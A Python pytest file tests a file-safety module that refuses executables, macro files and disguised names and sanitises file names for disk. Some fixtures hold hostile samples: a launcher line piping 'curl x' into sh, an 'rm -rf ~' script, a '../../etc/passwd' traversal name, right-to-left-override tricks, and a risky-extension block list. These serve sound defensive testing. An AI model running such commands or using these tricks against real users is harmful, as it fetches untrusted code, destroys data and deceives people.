"""The rule for which evidence may be opened, and the names evidence gets on disk."""

from __future__ import annotations

import io
import random
import unicodedata
import zipfile

import pytest

from app.services.safe_files import (
    BIDI_CONTROLS,
    HEAD_BYTES,
    NAME_LIMIT,
    OPEN_NAME_LIMIT,
    RISKY_EXTENSIONS,
    WINDOWS_FORBIDDEN,
    may_open,
    safe_file_name,
    shown_name,
)

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
TEXT = "Bernalillo County MDC — ICE access policy, 2009.\n".encode()
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
DESKTOP = b"[Desktop Entry]\nType=Application\nName=Policy\nExec=sh -c 'curl x | sh'\n"


def office_file(*parts: tuple[str, bytes]) -> bytes:
    """A zip laid out as Word and Excel write them: content types first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        for name, data in parts:
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = office_file(("word/document.xml", b"<w:document>MOU with ICE</w:document>"))
XLSX = office_file(("xl/workbook.xml", b"<workbook/>"))
XLSX_WITH_MACROS = office_file(("xl/workbook.xml", b"<workbook/>"), ("xl/vbaProject.bin", OLE))

# The extensions the office asked about by name; every one of them must be in the rule.
NAMED_IN_THE_REQUEST = [
    *("exe", "hta", "bat", "cmd", "lnk", "desktop", "url", "website", "ps1", "psm1", "vbs"),
    *("vbe", "js", "jse", "wsf", "wsh", "jar", "msi", "msp", "scr", "com", "cpl", "pif", "reg"),
    *("sh", "app", "appimage", "py", "pl", "rb", "docm", "xlsm", "pptm"),
]


# -- the rule: names ---------------------------------------------------------------------


@pytest.mark.parametrize("extension", NAMED_IN_THE_REQUEST)
def test_every_extension_named_in_the_request_is_refused(extension: str) -> None:
    assert extension in RISKY_EXTENSIONS
    verdict = may_open(f"Policy 2017.{extension}", PDF)
    assert not verdict.allowed
    assert verdict.extension == f".{extension}"
    assert f".{extension}" in verdict.reason


@pytest.mark.parametrize("extension", sorted(RISKY_EXTENSIONS))
def test_every_risky_extension_is_refused_in_any_case(extension: str) -> None:
    for name in (f"x.{extension}", f"X.{extension.upper()}", f"x.{extension.title()}"):
        assert not may_open(name, TEXT).allowed, name


def test_reasons_read_as_plain_words() -> None:
    assert may_open("run.exe", b"").reason == "Its name ends in .exe: it is a Windows program."
    assert may_open("budget.xlsm", XLSX).reason == (
        "Its name ends in .xlsm: it is an Office file made to carry macros "
        "(programs inside the document)."
    )


@pytest.mark.parametrize(
    "name",
    [
        "report\u202efdp.exe",  # reads as "reportexe.pdf"
        "photo\u202egnp.scr",
        "\u2067invoice.pdf\u2069.exe",
        "invoice.pdf.exe",
        "invoice.pdf                                  .exe",
        "INVOICE.EXE",
        "x.exe.",  # Windows drops trailing dots and spaces
        "x.exe . . ",
        "x.exe\u202c",
        "x.ex\u200be",  # a zero-width space that goes when the name is made safe
        "x.e\u00adxe",  # a soft hyphen, likewise
        "x.\uff45\uff58\uff45",  # full-width letters
        "folder/inner.bat",
        ".exe",
        "a" * 300 + ".exe",
    ],
)
def test_disguised_program_names_are_refused(name: str) -> None:
    verdict = may_open(name, PDF)
    assert not verdict.allowed
    assert verdict.reason.startswith("Its name ends in")


def test_the_right_to_left_override_trick_is_seen_through() -> None:
    name = "report\u202efdp.exe"
    verdict = may_open(name, PE)
    assert not verdict.allowed
    assert verdict.extension == ".exe"
    assert verdict.hidden_characters
    assert shown_name(name) == "reportfdp.exe"
    assert safe_file_name(name) == "reportfdp.exe"


# -- the rule: content -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("notes.pdf", ELF, "a Linux program"),
        ("letter.docx", PE, "a Windows program"),
        ("scan.png", b"MZ", "a Windows program"),
        ("scan.png", b"\xfe\xed\xfa\xce" + b"\x00" * 12, "a Mac program"),
        ("scan.png", b"\xfe\xed\xfa\xcf" + b"\x00" * 12, "a Mac program"),
        ("scan.png", b"\xce\xfa\xed\xfe" + b"\x00" * 12, "a Mac program"),
        ("scan.png", b"\xcf\xfa\xed\xfe" + b"\x00" * 12, "a Mac program"),
        ("photo.jpg", b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "a Mac or Java program"),
        ("readme.txt", b"#!/bin/sh\nrm -rf ~\n", "a script"),
        ("readme.txt", b"\xef\xbb\xbf#!/usr/bin/env python3\n", "a script"),
        ("minutes.pdf", LNK, "a Windows shortcut"),
        ("notes.txt", DESKTOP, "a desktop launcher"),
        ("notes.txt", b"# made by hand\n\n[Desktop Entry]\nExec=xterm\n", "a desktop launcher"),
        ("link.txt", b"[InternetShortcut]\r\nURL=file:///C:/Windows/calc.exe\r\n", "Internet"),
        ("budget.xlsx", XLSX_WITH_MACROS, "macros"),
        ("budget.zip", XLSX_WITH_MACROS, "macros"),
        ("memo.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), "macros"),
    ],
)
def test_programs_under_innocent_names_are_refused(name: str, content: bytes, kind: str) -> None:
    verdict = may_open(name, content)
    assert not verdict.allowed
    assert kind in verdict.reason
    assert verdict.reason.startswith(f"Its name ends in {verdict.extension}, but the file itself")


@pytest.mark.parametrize("name", ["evidence", "README", "scan.xyz", "scan.", "\u202e"])
def test_a_blank_or_unknown_extension_is_refused_when_the_content_runs(name: str) -> None:
    for content in (PE, ELF, b"#!/bin/sh\necho hi\n", LNK, DESKTOP):
        assert not may_open(name, content).allowed


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("MDC ICE access policy.pdf", PDF),
        ("Booking photo.PNG", PNG),
        ("Jail entrance.jpeg", JPEG),
        ("MOU with ICE.docx", DOCX),
        ("Detainer counts.xlsx", XLSX),
        ("Old memo.doc", OLE),
        ("Sheriff letter.txt", TEXT),
        ("Counts.csv", b"year,detainers\n2016,41\n"),
        ("Council page.html", b"<!doctype html><title>Agenda</title><script>1</script>"),
        ("empty.txt", b""),
        ("notes", TEXT),
        ("scan.xyz", b"\x00\x01\x02 binary data"),
        ("Résumé — 日本語 📄.pdf", PDF),
        ("Readme.md", b"# Heading\n\nNot a #! line at the start.\n"),
        ("extension-like.exe.pdf", PDF),
        ("Executive order.pdf", PDF),
    ],
)
def test_ordinary_documents_may_be_opened(name: str, content: bytes) -> None:
    verdict = may_open(name, content)
    assert verdict.allowed, verdict.reason
    assert not verdict.hidden_characters


def test_macros_are_found_only_in_the_bytes_given() -> None:
    # Lists look at the first bytes; opening looks at the whole file.
    scan = random.Random(2017).randbytes(8192)  # a photo does not compress
    late_macros = office_file(("word/media/scan.png", scan), ("word/vbaProject.bin", OLE))
    assert late_macros.find(b"vbaProject") > HEAD_BYTES
    assert may_open("memo.docx", late_macros[:HEAD_BYTES]).allowed
    assert not may_open("memo.docx", late_macros).allowed


# -- names written to disk ---------------------------------------------------------------


@pytest.mark.parametrize("control", sorted(BIDI_CONTROLS))
def test_bidirectional_controls_are_removed(control: str) -> None:
    assert safe_file_name(f"report{control}fdp.pdf") == "reportfdp.pdf"
    assert shown_name(f"report{control}fdp.pdf") == "reportfdp.pdf"


@pytest.mark.parametrize("hidden", ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\U000e0041"])
def test_other_invisible_characters_are_removed(hidden: str) -> None:
    assert safe_file_name(f"re{hidden}port.pdf") == "report.pdf"


@pytest.mark.parametrize("control", ["\x00", "\x01", "\x07", "\x1b", "\x7f", "\x9b"])
def test_control_characters_are_removed(control: str) -> None:
    assert safe_file_name(f"re{control}port.pdf") == "report.pdf"
    assert shown_name(f"re{control}port.pdf") == "re\N{REPLACEMENT CHARACTER}port.pdf"


@pytest.mark.parametrize("space", ["\t", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_line_breaks_and_tabs_become_spaces(space: str) -> None:
    assert safe_file_name(f"MOU{space}2017.pdf") == "MOU 2017.pdf"


@pytest.mark.parametrize("forbidden", sorted(WINDOWS_FORBIDDEN))
def test_characters_windows_forbids_become_underscores(forbidden: str) -> None:
    assert safe_file_name(f"Memo{forbidden}2017.pdf") == "Memo_2017.pdf"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("x.pdf.", "x.pdf"),
        ("x.pdf ", "x.pdf"),
        ("x.pdf . . .", "x.pdf"),
        ("  x.pdf", "x.pdf"),
        (".hidden.pdf", "hidden.pdf"),
        (".pdf", "evidence.pdf"),
        ("", "evidence"),
        ("...", "evidence"),
        (" . ", "evidence"),
        ("\u202e\u202c", "evidence"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ("C:\\Windows\\win.ini", "C__Windows_win.ini"),
    ],
)
def test_leading_and_trailing_dots_and_spaces(name: str, safe: str) -> None:
    assert safe_file_name(name) == safe


@pytest.mark.parametrize(
    "name",
    [
        "CON", "con.txt", "Prn.pdf", "AUX", "NUL", "nul.tar.gz", "CON .txt", "COM0", "COM1.pdf",
        "com9.docx", "LPT1", "lpt9.txt", "COM¹.pdf", "LPT³", "CONIN$", "conout$.txt",
    ],
)  # fmt: skip
def test_windows_device_names_get_an_underscore(name: str) -> None:
    assert safe_file_name(name) == "_" + name


@pytest.mark.parametrize("name", ["CONSOLE.txt", "COM10.pdf", "LPT.txt", "icon.png", "NULL.pdf"])
def test_names_that_only_resemble_devices_are_kept(name: str) -> None:
    assert safe_file_name(name) == name


@pytest.mark.parametrize("letter", ["a", "é", "法", "📄"])
@pytest.mark.parametrize("limit", [NAME_LIMIT, OPEN_NAME_LIMIT])
def test_long_names_are_shortened_keeping_the_extension(letter: str, limit: int) -> None:
    name = letter * 300 + ".pdf"
    safe = safe_file_name(name, limit=limit)
    encoded = safe.encode()
    assert len(encoded) <= limit
    assert len(encoded) > limit - 4  # no more was cut than a character needs
    assert safe.endswith(".pdf")
    assert set(safe.removesuffix(".pdf")) == {letter}  # no character cut in half


def test_a_long_device_name_is_shortened_and_still_marked() -> None:
    safe = safe_file_name("CON." + "x" * 300, limit=40)
    assert safe.startswith("_CON.")
    assert len(safe.encode()) <= 40


def test_an_absurd_extension_is_shortened_too() -> None:
    safe = safe_file_name("x." + "y" * 400)
    assert len(safe.encode()) <= NAME_LIMIT
    assert safe.startswith("x.y")


def test_a_name_that_is_already_safe_is_unchanged() -> None:
    for name in ("MDC ICE access policy.pdf", "Résumé — 日本語 📄.pdf", "2017-08-03 letter.docx"):
        assert safe_file_name(name) == name


CORPUS = [
    "report\u202efdp.exe",
    'a<b>:c"d|e?f*g\\h/i.pdf',
    "x\x00y\tz.pdf . ",
    "CON.txt",
    ".pdf",
    "法" * 300 + ".pdf",
    "a" * 251 + ".exe" + "b" * 100,
    "x.exe" + " " * 40 + "z",
    "\u202e",
    "NUL",
]


@pytest.mark.parametrize("name", CORPUS)
def test_every_safe_name_is_clean_and_stable(name: str) -> None:
    for limit in (NAME_LIMIT, OPEN_NAME_LIMIT):
        safe = safe_file_name(name, limit=limit)
        assert safe
        assert len(safe.encode()) <= limit
        assert not set(safe) & WINDOWS_FORBIDDEN
        assert all(unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp") for c in safe)
        assert safe[0] not in " ."
        assert safe[-1] not in " ."
        assert safe_file_name(safe, limit=limit) == safe


@pytest.mark.parametrize("name", CORPUS)
def test_no_name_written_to_disk_runs_a_program_the_rule_allowed(name: str) -> None:
    # The rule judges the names as written: if shortening leaves ".exe" at the end, it refuses.
    if may_open(name, TEXT).allowed:
        for limit in (NAME_LIMIT, OPEN_NAME_LIMIT):
            extension = safe_file_name(name, limit=limit).rpartition(".")[2].casefold()
            assert extension not in RISKY_EXTENSIONS
